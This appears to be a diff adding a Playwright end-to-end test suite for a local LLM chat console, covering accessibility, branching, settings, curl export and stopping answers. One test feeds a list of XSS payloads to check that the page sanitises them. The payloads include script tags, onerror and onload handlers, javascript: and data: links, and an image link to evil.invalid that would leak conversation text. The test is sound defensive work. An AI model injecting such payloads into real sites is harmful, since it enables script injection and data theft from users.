@@ -1,0 +1,226 @@
+import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
+import { after, before, describe, test } from "node:test";
+import type { Locator, Page, Request } from "playwright-core";
+import { skipWithoutBrowser as skip } from "../support/browser.ts";
+import { type ConsoleUnderTest, startConsole } from "../support/console.ts";
+import { only } from "../support/openai-server.ts";
+
+/** What a stream's last chunks say, which the page must show. */
+interface Told {
+  readonly timings: { readonly queue_ms: number; readonly prefill_ms: number; readonly decode_ms: number };
+  readonly usage: {
+    readonly prompt_tokens: number;
+    readonly completion_tokens: number;
+    readonly total_tokens: number;
+  };
+}
+
+/** Texts that would run, load or break something if they were taken for more than text. */
+const hostile = [
+  "<img src=https://evil.invalid/a.png onerror=\"globalThis.ran='img'\">",
+  "<script>globalThis.ran='script'</script>",
+  "![look](https://evil.invalid/pixel.png?what=was-said)",
+  "[press](javascript:globalThis.ran='link')",
+  "[press](data:text/html,<script>globalThis.ran='data'</script>)",
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe><style>*{display:none}</style>',
+  "[ok](https://example.invalid/page) and `<b>code</b>` and &lt;i&gt;",
+  '# " onmouseover="globalThis.ran=1',
+  "| a | b |\n|---|---|\n| <svg/onload=globalThis.ran=1> | {{globalThis.ran=1}} |",
+];
+
+describe("the chat page", { skip }, () => {
+  let console_: ConsoleUnderTest;
+  let page: Page;
+  before(async () => {
+    console_ = await startConsole({ env: { CONTEXT_SIZE: "1024", KV_CACHE_MEMORY: "64MiB" } });
+    page = console_.page;
+    await console_.open("/");
+  });
+  after(() => console_[Symbol.asyncDispose]());
+
+  const message = () => page.getByRole("textbox", { name: "Message", exact: true });
+  const answers = () => page.getByRole("article", { name: "Answer" });
+  const whole = (answer: Locator) => answer.getByRole("button", { name: "Answer again" }).waitFor();
+
+  /** Types and sends by keyboard; resolves when the answer is whole, to what the server told of it. */
+  async function ask(text: string): Promise<Told> {
+    const asked = page.waitForRequest("**/v1/chat/completions");
+    await message().focus();
+    await page.keyboard.insertText(text);
+    await page.keyboard.press("Enter");
+    const told = await toldOf(await asked);
+    await whole(answers().last());
+    return told;
+  }
+
+  test("a question is asked by keyboard, and its account is the server's", async () => {
+    await console_.assertAccessible("empty");
+    await console_.assertFitsNarrow("empty");
+    const { timings, usage } = await ask("Once upon a time");
+    const account = answers().last().getByRole("region", { name: "What it cost" });
+    const figures = (await account.textContent()) ?? "";
+    const ms = (value: number) => (value < 10 ? String(value) : Math.round(value).toLocaleString("en"));
+    for (const part of ["queue", "prefill", "decode"] as const)
+      assert.match(figures, new RegExp(`${part}\\s*${ms(timings[`${part}_ms`])} ms`));
+    const together = timings.queue_ms + timings.prefill_ms + timings.decode_ms;
+    assert.match(figures, new RegExp(`=\\s*${ms(together)} ms`));
+    assert.match(figures, new RegExp(`${usage.prompt_tokens} prompt tokens`));
+    assert.match(figures, new RegExp(`${usage.completion_tokens} new`));
+    assert.match(figures, new RegExp(`context ${usage.total_tokens.toLocaleString("en")} of 1,024`));
+
+    const details = account.getByRole("button", { name: "Details" });
+    await details.focus();
+    await page.keyboard.press("Enter");
+    const browser = await account.getByRole("row", { name: /^In this browser/ }).textContent();
+    const [seen] = /([\d,.]+) (ms|s)/.exec(browser ?? "") ?? [""];
+    assert.ok(inMs(seen) >= Math.floor(together), `${seen} in the browser, ${together} in the server`);
+    await console_.assertAccessible("answered, with its account in full");
+    await console_.assertFitsNarrow("answered");
+    assert.equal(await page.evaluate("document.cookie"), "", "no script can read the session");
+  });
+
+  test("an answer again is a branch, and a changed question too", async () => {
+    await answers().last().getByRole("button", { name: "Answer again" }).press("Enter");
+    await page.getByText("2 of 2").waitFor();
+    await answers().last().getByRole("button", { name: "Earlier branch" }).press("Enter");
+    await page.getByText("1 of 2").waitFor();
+    await page.getByRole("button", { name: "Change" }).press("Enter");
+    await page.getByRole("textbox", { name: "Your message, changed" }).fill("There was a robot");
+    await page.getByRole("button", { name: "Send as a branch" }).press("Enter");
+    await whole(answers().last());
+    assert.equal(await page.getByRole("article", { name: "You" }).getByText("2 of 2").count(), 1);
+    assert.equal(await answers().count(), 1);
+  });
+
+  test("parameters and the system prompt are sent, and what is empty is not", async () => {
+    await page.getByRole("button", { name: "Settings", exact: true }).press("Enter");
+    await page.getByLabel("Temperature").fill("0");
+    await page.getByLabel("Most tokens").fill("3");
+    await page.getByLabel("System prompt").fill("You are brief.");
+    await page.getByLabel("Form of the answer").selectOption("JSON after a schema");
+    await console_.assertAccessible("settings");
+    await page.getByLabel("Form of the answer").selectOption("text");
+    await page.getByRole("button", { name: "Close settings" }).press("Enter");
+    const sent = page.waitForRequest("**/v1/chat/completions");
+    const { usage } = await ask("And then?");
+    const { messages, stream, stream_options, ...parameters } = (await sent).postDataJSON();
+    assert.deepEqual(parameters, { temperature: 0, max_completion_tokens: 3 });
+    assert.deepEqual(messages[0], { role: "system", content: "You are brief." });
+    assert.equal(usage.completion_tokens, 3);
+    await answers().last().getByText("cut off by its limit").waitFor();
+  });
+
+  test("the exported curl command asks the same again", async () => {
+    await page.getByRole("button", { name: "Export" }).press("Enter");
+    await page.getByRole("radio", { name: /^curl/ }).check();
+    await console_.assertAccessible("export");
+    const command = (await page.getByRole("region", { name: "Preview" }).textContent()) ?? "";
+    await page.keyboard.press("Escape");
+    const output = execFileSync("bash", ["-c", command], {
+      env: { ...process.env, API_KEY: "dev-local-key" },
+      stdio: ["ignore", "pipe", "ignore"],
+    });
+    const { choices } = JSON.parse(output.toString()) as { choices: [{ message: { content: string } }] };
+    const shown = await answers().last().locator(".markdown").textContent();
+    assert.equal(shown?.trim(), choices[0].message.content.trim());
+  });
+
+  test("an answer is stopped, and what it said until then is kept", async () => {
+    await page.getByRole("button", { name: "New conversation" }).press("Enter");
+    // Held at the server's end: nothing comes until the request is cut.
+    await page.route("**/v1/chat/completions", () => {}, { times: 1 });
+    await message().focus();
+    await page.keyboard.insertText("Tell me everything");
+    await page.keyboard.press("Enter");
+    await page.getByRole("button", { name: "Stop" }).press("Enter");
+    await page.getByText("You stopped it here.").waitFor();
+    await page.getByText("The answer was stopped.").waitFor({ state: "attached" });
+  });
+
+  test("a refusal is shown in the server's words", async () => {
+    await page.getByRole("button", { name: "New conversation" }).press("Enter");
+    await ask(`${"word ".repeat(2000)}`);
+    const alert = answers().last().getByRole("alert");
+    assert.match((await alert.textContent()) ?? "", /context/);
+    await alert.getByText("context_length_exceeded").waitFor();
+    await console_.assertAccessible("failed");
+  });
+
+  test("hostile words, the user's and the model's, never run and never load", async () => {
+    await page.getByRole("button", { name: "New conversation" }).press("Enter");
+    const words = hostile.join("\n\n");
+    // The model says them because a grammar allows nothing else; the page itself has no field for one.
+    await page.route(
+      "**/v1/chat/completions",
+      (route) => {
+        const body = { ...route.request().postDataJSON(), grammar: only(words) };
+        delete body.max_completion_tokens;
+        return route.continue({ postData: JSON.stringify(body) });
+      },
+      { times: 1 },
+    );
+    await ask(words);
+    const answer = answers().last();
+    assert.equal(await answer.getByText("<script>globalThis.ran='script'</script>").count(), 1);
+    assert.equal(await page.locator("main :is(img, script, iframe, style, object, form form)").count(), 0);
+    const links = await answer
+      .getByRole("link")
+      .evaluateAll((all) => all.map((link) => `${link.getAttribute("href")} ${link.getAttribute("rel")}`));
+    assert.deepEqual(links, [
+      "https://evil.invalid/pixel.png?what=was-said noopener noreferrer nofollow",
+      "https://example.invalid/page noopener noreferrer nofollow",
+    ]);
+    await answer.hover();
+    assert.equal(await page.evaluate("globalThis.ran"), undefined);
+    await console_.assertAccessible("hostile words");
+    await console_.assertFitsNarrow("hostile words");
+  });
+
+  test("conversations are there after a reload, and one is deleted by keyboard", async () => {
+    await page.reload();
+    const conversations = page.getByRole("navigation", { name: "Conversations" });
+    await conversations.getByRole("button", { name: /^Once upon a time/ }).press("Enter");
+    await answers().first().waitFor();
+    const before = await conversations.getByRole("listitem").count();
+    await conversations.getByRole("button", { name: "Delete Once upon a time" }).press("Enter");
+    await conversations.getByRole("button", { name: "Delete", exact: true }).press("Enter");
+    assert.equal(await conversations.getByRole("listitem").count(), before - 1);
+  });
+
+  test("a link fills the question in and does not send it", async () => {
+    await console_.open("/?q=What%20is%20a%20KV%20cache%3F");
+    assert.equal(await message().inputValue(), "What is a KV cache?");
+    assert.equal(await answers().count(), 0);
+  });
+
+  test("the server that is away is waited for", async () => {
+    await page.route("**/readyz", (route) => route.abort("connectionrefused"), { times: 1 });
+    await page.getByRole("alert").getByText("The server does not answer").waitFor();
+    await page.getByRole("alert").waitFor({ state: "detached" });
+  });
+
+  test("all this time nothing was asked elsewhere, no policy broken and no error logged", () => {
+    console_.assertQuiet((complaint) =>
+      // Chromium logs answers that are errors, and the two requests that were cut above.
+      /Failed to load resource: (the server responded with a status of 400|net::ERR_CONNECTION_REFUSED)/.test(
+        complaint,
+      ),
+    );
+  });
+});
+
+/** The figures at the end of the stream that answers `request`; of an error none, and nobody asks. */
+async function toldOf(request: Request): Promise<Told> {
+  const response = await request.response();
+  const text = (await response?.text()) ?? "";
+  const chunks = [...text.matchAll(/^data: (\{.*)$/gm)].map(
+    ([, data = ""]) => JSON.parse(data) as Partial<Told>,
+  );
+  return Object.assign({}, ...chunks.filter(({ timings, usage }) => timings ?? usage)) as Told;
+}
+
+function inMs(shown: string): number {
+  const value = Number.parseFloat(shown.replaceAll(",", ""));
+  return shown.endsWith(" s") ? value * 1000 : value;
+}
